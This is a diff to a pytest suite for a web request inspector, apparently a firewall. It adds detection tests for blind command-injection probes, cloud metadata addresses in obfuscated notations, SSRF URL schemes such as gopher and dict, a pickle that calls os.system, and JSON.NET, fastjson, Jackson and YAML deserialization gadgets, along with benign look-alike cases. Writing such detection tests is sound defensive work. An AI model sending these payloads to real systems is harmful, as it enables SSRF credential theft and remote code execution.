@@ -10,6 +10,8 @@ from __future__ import annotations
 import base64
 import gzip
 import json
+import os
+import pickle
 import zlib
 from urllib.parse import quote
 
@@ -261,6 +263,130 @@ def test_interpreters_and_launchers_after_a_separator(inspector: Inspector, payl
     assert "cmdi" in families(inspector.inspect(query(quote(payload, safe=""))))
 
 
+# --- payload classes the third held-out set missed (holdout3.yaml), each generalized --------------
+# holdout3.yaml is a regression set since (rules v2025.12.2): these cases are other members of
+# each class, not its payloads.
+
+BLIND_PROBES = [
+    "; sleep 10 #",
+    "| sleep 5;",
+    "1;sleep 0.5s ;",
+    "&& usleep 3000000 &",
+    "|| timeout 10 ||",
+    "\nsleep 10 #",
+    "; {sleep,10} #",
+    "; s''leep 10 #",
+    "; ping localhost #",
+    "; Start-Sleep -s 10 #",
+]
+
+
+@pytest.mark.parametrize("payload", BLIND_PROBES)
+def test_time_based_blind_probe_after_a_separator(inspector: Inspector, payload: str) -> None:
+    assert "cmdi" in families(inspector.inspect(query(quote(payload, safe=""))))
+
+
+METADATA_ADDRESSES = [
+    "http://0xA9FEA9FE/",  # 169.254.169.254 as one hex number
+    "http://0x00a9fea9fe/",
+    "http://2852039166/",  # … one decimal number
+    "http://025177524776/",  # … one octal number
+    "http://0251.0376.0251.0376/",  # dotted octal
+    "http://0xa9.0xfe.0xa9.0xfe/",  # dotted hex
+    "http://169.0xfe.0251.254/",  # each part its own base
+    "http://169.254.43518/",  # three parts: the last is 16 bits
+    "http://169.16689662/",  # two parts: the last is 24 bits
+    "http://attacker.example@2852039166:80/",
+    "http://[::ffff:a9fe:a9fe]/",  # IPv4-mapped IPv6
+    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
+    "http://169.254.170.2/v2/credentials/1f2e",  # ECS task credentials
+    "http://169.254.170.23/v1/credentials",  # EKS pod identity
+    "http://0x646464c8/",  # Alibaba's 100.100.100.200
+    "http://[fd00:ec2:0:0:0:0:0:254]/",
+    "0xa9fea9fe",  # a host parameter
+]
+
+
+@pytest.mark.parametrize("url", METADATA_ADDRESSES)
+def test_cloud_metadata_address_in_any_notation(inspector: Inspector, url: str) -> None:
+    assert "exploit" in families(inspector.inspect(query(quote(url, safe=""), "url")))
+
+
+SMUGGLING_SCHEMES = [
+    "gopher://127.0.0.1:6379/_%2A1%0D%0A%244%0D%0Aping%0D%0A",
+    "dict://127.0.0.1:11211/stats",
+    "tftp://203.0.113.9/payload",
+    "netdoc:///etc/hostname",
+    "jar:http://203.0.113.9/x.jar!/a.class",
+    "data://text/plain;base64,PD9waHAgZWNobyAxOyA/Pg==",
+    "ssh2.exec://user:pass@203.0.113.9:22/id",
+]
+
+
+@pytest.mark.parametrize("url", SMUGGLING_SCHEMES)
+def test_url_schemes_that_smuggle_requests(inspector: Inspector, url: str) -> None:
+    assert "exploit" in families(inspector.inspect(query(quote(url, safe=""), "url")))
+
+
+class _Reduces:
+    """Pickles as a call of os.system (only ever dumped here, never loaded)."""
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return (os.system, ("id",))
+
+
+@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
+def test_python_pickle_in_base64(inspector: Inspector, protocol: int) -> None:
+    token = base64.b64encode(pickle.dumps(_Reduces(), protocol=protocol)).decode()
+    assert "exploit" in families(inspector.inspect(get("/", ("cookie", f"session={token}"))))
+    urlsafe = base64.urlsafe_b64encode(pickle.dumps(_Reduces(), protocol=protocol)).decode()
+    assert "exploit" in families(inspector.inspect(query(quote(urlsafe, safe=""), "state")))
+
+
+def test_python_pickle_as_text(inspector: Inspector) -> None:
+    handmade = "cos\nsystem\n(S'id'\ntR."
+    assert "exploit" in families(inspector.inspect(post(handmade, "text/plain")))
+    assert "exploit" in families(inspector.inspect(query(quote(base64.b64encode(handmade.encode()).decode()))))
+
+
+TYPED_PAYLOADS = {
+    # a JSON body: its members are read one by one, the class name alone is the sign
+    "json.net-body": post(
+        json.dumps(
+            {
+                "$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework",
+                "MethodName": "Start",
+                "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c id"]},
+            }
+        ),
+        "application/json",
+    ),
+    "json.net-windows-identity": post(
+        json.dumps({"$type": "System.Security.Principal.WindowsIdentity, mscorlib", "actor": "AAEAAAD/////"}),
+        "application/json",
+    ),
+    "fastjson-body": post(
+        json.dumps({"a": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://x.example/a"}}),
+        "application/json",
+    ),
+    "jackson-default-typing": post(
+        json.dumps(["org.apache.xbean.propertyeditor.JndiConverter", {"asText": "ldap://x.example/a"}]),
+        "application/json",
+    ),
+    # JSON as text in a value: the type discriminator and any platform class it names
+    "fastjson-autocloseable": query(quote('{"@type":"java.lang.AutoCloseable","@type":"x.Y"}', safe="")),
+    "fastjson-l-descriptor": query(quote('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;"}', safe="")),
+    "dotnet-__type": query(quote('{"__type":"System.IO.FileInfo, System.IO.FileSystem","fileName":"a"}', safe="")),
+    "pyyaml-apply": post('!!python/object/apply:os.system ["id"]', "text/plain"),
+    "ruby-yaml-object": post("--- !ruby/object:Gem::Installer\ni: x\n", "text/plain"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(TYPED_PAYLOADS))
+def test_deserialization_types_and_gadgets(inspector: Inspector, name: str) -> None:
+    assert "exploit" in families(inspector.inspect(TYPED_PAYLOADS[name]))
+
+
 def test_repeated_parameters_are_joined(inspector: Inspector) -> None:
     """ASP.NET hands the application q=a&q=b as "a,b": an attack split across the two is
     found in the joined value."""
@@ -452,6 +578,27 @@ BENIGN = [
         ),
         "application/json",
     ),
+    # what the blind-probe, metadata, scheme, pickle and typed-JSON rules must leave alone
+    post(
+        json.dumps(
+            {
+                "note": "After a night shift I sleep 10 hours; sleep 8 is my usual. Set a timer; timeout 30 s.",
+                "hobby": "The gopher dug up my garden; a dict: keys and values.",
+                "logo": "https://cdn.example.com/assets/0xA9FEA9FE/logo.png",
+                "tx": "https://explorer.example.org/tx/0xa9fea9fe3b1c22d4",
+                "where": "169.16689662, -45.87",
+                "photo": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAC"
+                "hwGA60e6kgAAAABJRU5ErkJggg==",
+                "embedded": '{"$type": "Shop.Models.Order, Shop", "lines": '
+                '{"$type": "System.Collections.Generic.List`1[[Shop.Line, Shop]], mscorlib"}}',
+            }
+        ),
+        "application/json",
+    ),
+    post(json.dumps({"@context": "https://schema.org", "@type": "Product", "name": "Trail shoe"}), "application/json"),
+    post(json.dumps({"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": "QUOTA"}), "application/json"),
+    # a Fernet token (itsdangerous, cryptography) opens with 0x80 too, then a timestamp
+    get("/", ("cookie", "session=gAAAAABlZ3V4Hq2kZ3UyjW7FwHw9H8iKbJwD0LbSxJfyqnmRvV3Vd3qAz2wCjRbaRRxZ7t1Nq3zOQ==")),
 ]
 
 
@@ -675,8 +822,13 @@ def test_corpus_detection_and_false_positive_rates() -> None:
 
     inspector = Inspector(RuleSet.default())
     caught: dict[str, list[int]] = {}
-    # the development set and the first held-out one (a regression set since its gaps were fixed)
-    for case in (corpus.attacks() + corpus.attacks("holdout.yaml"))[::3]:
+    # the development set and the three held-out ones (regression sets since their gaps were fixed)
+    cases = [
+        case
+        for source in ("attacks.yaml", "holdout.yaml", "holdout2.yaml", "holdout3.yaml")
+        for case in corpus.attacks(source)
+    ]
+    for case in cases[::3]:
         row = caught.setdefault(case.family, [0, 0])
         row[0] += 1
         row[1] += case.family in families(inspector.inspect(case.request))
